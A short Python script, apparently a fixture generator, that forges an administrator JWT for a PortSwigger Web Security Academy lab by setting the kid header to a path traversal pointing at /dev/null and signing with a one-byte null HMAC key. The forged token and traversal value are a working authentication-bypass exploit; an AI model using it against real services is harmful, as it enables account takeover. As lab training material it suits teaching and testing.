"""kid path traversal: kid points at /dev/null, the token is signed with a null byte.

The PortSwigger Web Security Academy lab "JWT authentication bypass via kid
header path traversal": the server reads the HMAC key from a file named by
kid; the attacker sets kid to ../../../../../../../dev/null and signs with
the symmetric key AA== (one null byte), which the server's key read matches.
Made with PyJWT (it warns that the key is short, which is the point).
"""

import warnings
from pathlib import Path

import jwt

here = Path(__file__).parent
NOW = 1763391600  # 2025-11-17T15:00:00Z
claims = {"iss": "portswigger", "exp": NOW + 3600, "sub": "administrator"}
with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # InsecureKeyLengthWarning: a 1-byte key is the attack
    token = jwt.encode(claims, b"\x00", algorithm="HS256", headers={"kid": "../../../../../../../dev/null"})
(here / "input.txt").write_text(token)
print(token)
